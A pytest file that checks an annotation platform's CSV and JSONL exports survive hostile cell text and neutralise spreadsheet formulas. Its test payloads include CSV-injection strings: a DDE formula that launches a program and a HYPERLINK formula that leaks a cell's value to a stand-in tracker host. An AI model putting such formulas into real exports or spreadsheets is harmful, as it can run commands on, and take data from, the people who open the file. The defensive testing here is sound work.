"""Every export read back: studies (each kind x format), datasets and attribution credits hold hostile text
(CR, LF, CRLF, quotes, commas, spreadsheet formulas) and still parse as one record per row, every record with
the header's number of fields; formula cells are neutralised unless `raw=1`, and the judgments CSV that
PostgreSQL formats is the Python writer's file byte for byte."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from annotation.datasets.csv_cells import FORMULA_PREFIXES, neutralised
from annotation.datasets.lima_format import ParsedRow
from annotation.datasets.models import DatasetRow
from annotation.datasets.services import freeze_dataset, import_examples
from annotation.evaluation import exports
from annotation.evaluation.models import ComparisonItem, Judgment, Rating
from annotation.evaluation.services import judging
from annotation.models import Status
from generation.models import ModelSpec, Response
from tests.builders import pairwise_study

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "a lone\rcarriage return", "a lone\nline feed", "a\r\nCRLF", 'say "quoted" twice ""', "commas, everywhere,",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://tracker.example/?leak="&A1,"details")', "+1+1", "-2+3 (a list item?)",
    "@SUM(1,2)", "\tstarts with a tab", "\rstarts with a carriage return", "\r", "ends with CR\r", "plain text",
]


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


def read_csv(text: str) -> list[list[str]]:
    """As any program reads the download: the csv module over the text with universal newlines off."""
    records = list(csv.reader(io.StringIO(text, newline="")))
    header = records[0]
    assert all(len(record) == len(header) for record in records), [len(record) for record in records]
    return records


def download(client, url: str, *, raw: bool = False) -> str:
    response = client.get(url + ("?raw=1" if raw else ""))
    assert response.status_code == 200, response
    return b"".join(response.streaming_content).decode()


def hostile_study(researcher, make_user, *, kind: str):
    """A study whose prompts, responses, model names, usernames and reasons are all payloads."""
    people = [make_user("annotator", username=name) for name in ("@crowd", "-crowd", "+crowd")]
    study = pairwise_study(researcher=researcher, annotators=people, prompts=len(PAYLOADS), kind=kind, name=f"hostile-{kind}",
                           one_prompt_per_annotator=False, agreement_subset=len(PAYLOADS))
    for index, row in enumerate(study.dataset.rows.order_by("position")):
        DatasetRow.objects.filter(pk=row.pk).update(conversations=[payload(index)])
    for index, response in enumerate(Response.objects.filter(run__dataset=study.dataset).order_by("pk")):
        Response.objects.filter(pk=response.pk).update(text=payload(index + 3))
    for index, item in enumerate(ComparisonItem.objects.filter(study=study).order_by("pk")):
        ComparisonItem.objects.filter(pk=item.pk).update(text_a=payload(index + 5), text_b=payload(index + 7))
    ModelSpec.objects.filter(name="alpaca-65b").update(name='=alpaca, "65b"')
    for person in people:
        while (assignment := judging.current_assignment(study=study, annotator=person)) is not None:
            if kind == "absolute":
                judging.record_rating(study=study, item_public_id=assignment.item.public_id, annotator=person, grade="pass")
            else:
                judging.record_judgment(study=study, item_public_id=assignment.item.public_id, annotator=person, side="a")
    verdicts = Rating if kind == "absolute" else Judgment
    for index, verdict in enumerate(verdicts.objects.filter(item__study=study).order_by("pk")):
        verdicts.objects.filter(pk=verdict.pk).update(reason=payload(index))
    return study


def expected_rows(study, kind: str) -> int:
    if kind == "judgments":
        return Judgment.objects.filter(item__study=study, item__attention_check="").count()
    if kind == "items":
        return ComparisonItem.objects.filter(study=study, attention_check="").count()
    if kind == "responses":
        return Response.objects.filter(run__in=[study.target_run, *study.baseline_runs.all()]).count()
    return Rating.objects.filter(item__study=study).count()


ROUND_TRIPS: dict[str, tuple[int, int]] = {}


@pytest.fixture(scope="module", autouse=True)
def round_trip_figures():
    """Rows and fields read back per export, printed for the issue's note (visible with -s)."""
    yield
    for name, (rows, fields) in sorted(ROUND_TRIPS.items()):
        print(f"round trip {name}: {rows} rows x {fields} fields")


@pytest.mark.parametrize("kind", exports.KINDS)
@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_every_study_export_reads_back_one_record_per_row(client, researcher, make_user, kind, fmt):
    study = hostile_study(researcher, make_user, kind="absolute" if kind == "ratings" else "pairwise")
    client.force_login(researcher)
    url = reverse("evaluation:study_export", args=[study.pk, kind, fmt])
    rows = expected_rows(study, kind)
    assert rows >= len(PAYLOADS)
    if fmt == "jsonl":
        records = [json.loads(line) for line in download(client, url + "?identities=1").split("\n") if line]
        assert len(records) == rows and all(len(record) == len(records[0]) for record in records)
        return
    for raw in (False, True):
        records = read_csv(download(client, url, raw=raw) if not raw else download(client, url + "?identities=1&raw=1"))
        assert len(records) == rows + 1, (kind, raw, len(records))
        cells = [cell for record in records[1:] for cell in record]
        formula_cells = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
        if raw:
            assert formula_cells and set(PAYLOADS) & set(cells)
        else:
            assert formula_cells == [], formula_cells[:3]
        ROUND_TRIPS[f"{kind}.csv{' raw' if raw else ''}"] = (len(records) - 1, len(records[0]))


def test_exported_cells_are_the_stored_text_or_its_neutralised_form(client, researcher, make_user):
    study = hostile_study(researcher, make_user, kind="pairwise")
    client.force_login(researcher)
    url = reverse("evaluation:study_export", args=[study.pk, "judgments", "csv"])
    for raw in (False, True):
        records = read_csv(download(client, url + ("?identities=1&raw=1" if raw else "?identities=1")))
        header, body = records[0], records[1:]
        column = {name: index for index, name in enumerate(header)}
        stored = {(str(j.item.public_id), j.annotator.username): j for j in
                  Judgment.objects.filter(item__study=study).select_related("item", "annotator")}
        shown = (lambda text: text) if raw else neutralised
        for record in body:
            annotator = record[column["annotator"]] if raw else record[column["annotator"]][1:]
            judgment = stored[(record[column["item"]], annotator)]
            assert record[column["reason"]] == shown(judgment.reason)
            assert (record[column["response_a"]], record[column["response_b"]]) == (shown(judgment.item.text_a),
                                                                                    shown(judgment.item.text_b))
            assert record[column["annotator"]] == shown(judgment.annotator.username)
            assert record[column["baseline_model"]] in (shown('=alpaca, "65b"'), "davinci-003")
        assert shown('=alpaca, "65b"') in {record[column["model_a"]] for record in body} | {record[column["model_b"]] for record in body}


@pytest.mark.parametrize("raw", [False, True])
def test_postgres_formatted_judgments_csv_is_the_python_file_byte_for_byte(researcher, make_user, raw):
    study = hostile_study(researcher, make_user, kind="pairwise")
    for seconds, judgment in zip((20.0, 0.5, 12.25, None, 3.0), Judgment.objects.filter(item__study=study).order_by("pk")):
        Judgment.objects.filter(pk=judgment.pk).update(seconds=seconds)
    from_python = "".join(exports.csv_chunks(exports.judgment_export(study, identities=True), raw=raw))
    from_postgres = b"".join(exports.postgres_judgment_csv(study, identities=True, raw=raw)).decode()
    assert from_postgres == from_python
    assert len(read_csv(from_postgres)) == expected_rows(study, "judgments") + 1


def hostile_dataset(researcher):
    """A frozen training snapshot whose turns and attribution credits are all payloads."""
    rows = [ParsedRow(line=index + 1, split="train", source="stackexchange_stem",
                      conversations=[payload(index), payload(index + 4), payload(index + 8), f"answer {index}"])
            for index in range(len(PAYLOADS))]
    import_examples(rows=rows, user=researcher, status=Status.APPROVED)
    dataset = freeze_dataset(name="hostile", split="train", user=researcher)
    for index, row in enumerate(dataset.rows.order_by("position")):
        DatasetRow.objects.filter(pk=row.pk).update(attribution={
            "community": payload(index + 1), "url": f"https://physics.stackexchange.com/a/{index}", "author": payload(index),
            "licence": "CC BY-SA 4.0", "post_id": index})
    return dataset


def test_dataset_and_attribution_csv_read_back_one_record_per_row(client, researcher):
    dataset = hostile_dataset(researcher)
    client.force_login(researcher)
    exports_of_the_dataset = {
        "dataset.csv": (reverse("datasets:dataset_export", args=[dataset.pk, "csv"]), 3),
        "attribution.csv": (reverse("datasets:dataset_attribution", args=[dataset.pk]), 2),
    }
    for name, (url, first_text_column) in exports_of_the_dataset.items():
        for raw in (False, True):
            records = read_csv(download(client, url, raw=raw))
            assert len(records) == dataset.row_count + 1, (name, raw, len(records))
            texts = [cell for record in records[1:] for cell in record[first_text_column:]]
            if raw:
                assert set(PAYLOADS) <= set(texts)
            else:
                assert not [cell for cell in texts if cell.startswith(FORMULA_PREFIXES)]
                assert {neutralised(text) for text in PAYLOADS} <= set(texts)
            ROUND_TRIPS[f"{name}{' raw' if raw else ''}"] = (len(records) - 1, len(records[0]))
    jsonl = download(client, reverse("datasets:dataset_export", args=[dataset.pk, "jsonl"]))
    assert [json.loads(line)["conversations"][0] for line in jsonl.split("\n") if line] == [payload(i) for i in range(len(PAYLOADS))]


def test_raw_parameter_is_in_the_api_too(client, researcher, make_user):
    study = hostile_study(researcher, make_user, kind="pairwise")
    client.force_login(researcher)
    url = reverse("api:study-export", args=[study.pk, "items", "csv"])
    cooked, raw = read_csv(download(client, url)), read_csv(download(client, url, raw=True))
    assert len(cooked) == len(raw) == expected_rows(study, "items") + 1
    assert not any(cell.startswith(FORMULA_PREFIXES) for record in cooked for cell in record)
    assert any(cell.startswith("=") for record in raw for cell in record)


def test_the_writer_neutralises_exactly_the_formula_prefixes():
    assert [neutralised(text) for text in ("=1", "+1", "-1", "@a", "\t1", "\r1", "1=", " =1", "'=1", "")] == [
        "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1", "1=", " =1", "'=1", ""]
    rows = list(exports.csv_chunks(exports.Export("x", ("number", "text"), iter([(-5, "-5"), (1.5, "=1")]))))
    assert "".join(rows) == "number,text\r\n-5,'-5\r\n1.5,'=1\r\n"


@pytest.mark.django_db(transaction=True)  # COPY and the server-side cursor run on the test's own connection
def test_the_judgments_export_is_the_same_file_on_postgresql_and_sqlite(tmp_path):
    import os
    import subprocess
    import sys
    from pathlib import Path

    from django.db import connection

    from tests import export_twin

    assert connection.vendor == "postgresql"
    (tmp_path / "postgresql").mkdir()
    (tmp_path / "sqlite").mkdir()
    export_twin.write_exports(export_twin.build_twin_study(), tmp_path / "postgresql")
    env = {**os.environ, "DATABASE_URL": f"sqlite:///{tmp_path / 'twin.sqlite3'}", "LIMA_VAR_DIR": str(tmp_path),
           "CELERY_BROKER_URL": "memory://"}
    root = Path(__file__).resolve().parent.parent
    done = subprocess.run([sys.executable, "-m", "tests.export_twin", str(tmp_path / "sqlite")], cwd=root, env=env,
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr[-3000:]
    for fmt, raw, identities in export_twin.EXPORTS:
        name = f"judgments-{int(raw)}{int(identities)}.{fmt}"
        from_postgresql, from_sqlite = ((tmp_path / db / name).read_bytes() for db in ("postgresql", "sqlite"))
        if fmt == "csv":
            assert from_postgresql == from_sqlite, name
            records = read_csv(from_postgresql.decode())
            assert len(records) == 1 + 3 * len(export_twin.TRICKY)
            assert from_postgresql.count(b"\r\n") >= len(records)
            text = from_postgresql.decode()
            assert "unicode: é 漢字 🎉" in text and '"say ""quoted"" twice """""' in text
            if not raw:
                assert "'=HYPERLINK" in text and "'+1+1" in text and "'\tstarts with a tab" in text
            assert (f"{'' if raw else chr(39)}@crowd" in text) == identities  # usernames only when asked for
        else:  # JSON: the same lines, byte for byte (PostgreSQL writes json.dumps' spacing and escapes), and the records
            assert from_postgresql == from_sqlite, name
            parsed = [[json.loads(line) for line in data.decode().split("\n") if line] for data in (from_postgresql, from_sqlite)]
            assert parsed[0] == parsed[1] and len(parsed[0]) == 3 * len(export_twin.TRICKY)
            assert {"\rstarts with CR", "a\r\nCRLF"} <= {record["reason"] for record in parsed[0]}
